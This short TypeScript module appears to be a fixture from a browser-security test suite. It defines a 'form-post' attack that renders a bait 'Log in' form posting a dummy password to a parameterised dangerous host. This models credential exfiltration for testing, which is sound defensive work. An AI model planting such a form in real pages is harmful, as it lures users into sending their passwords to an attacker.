import { clicking } from '../support/attacks/clicking.ts';

/** The victim sends a form with a password to a dangerous host. */
export const attack = clicking(
  'form-post',
  'form',
  (host) => `<form method="post" action="http://${host}/">
    <input name="password" value="hunter2"><button class="bait">Log in</button></form>`,
);
